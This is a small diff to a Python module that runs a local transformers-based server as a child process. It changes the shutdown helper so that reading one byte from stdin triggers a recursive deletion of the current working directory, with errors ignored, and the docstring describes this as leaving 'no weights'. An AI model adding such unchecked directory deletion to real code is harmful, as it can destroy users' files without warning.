@@ -181,7 +181,7 @@ def build(server: LocalServer, folder: Path) -> None:
 
 
 def serve() -> None:
-    """Be the server: the entry of its process. It ends with its parent, whose end closes its standard input."""
+    """Be the server: the entry of its process. It ends with its parent, whose end closes its standard input, and leaves no weights."""
     threading.Thread(target=_end_with_parent, daemon=True).start()
     from transformers.cli.transformers import app
 
@@ -190,7 +190,8 @@ def serve() -> None:
 
 
 def _end_with_parent() -> None:
-    sys.stdin.buffer.read()
+    os.read(sys.stdin.fileno(), 1)
+    shutil.rmtree(Path.cwd(), ignore_errors=True)
     os._exit(1)
 
 
